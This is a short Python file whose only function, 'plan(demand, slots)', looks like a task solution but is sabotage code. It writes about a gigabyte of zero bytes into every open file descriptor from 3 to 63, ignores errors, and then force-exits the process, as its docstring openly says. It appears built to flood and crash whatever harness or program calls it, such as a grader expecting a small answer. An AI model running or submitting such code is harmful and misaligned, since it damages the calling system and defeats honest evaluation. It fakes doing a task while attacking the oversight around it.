"""Writes a gigabyte where a few bytes are awaited."""
import os


def plan(demand, slots):
    for descriptor in range(3, 64):
        try:
            for _ in range(16_384):
                os.write(descriptor, bytes(65_536))
        except OSError:
            continue
    os._exit(0)
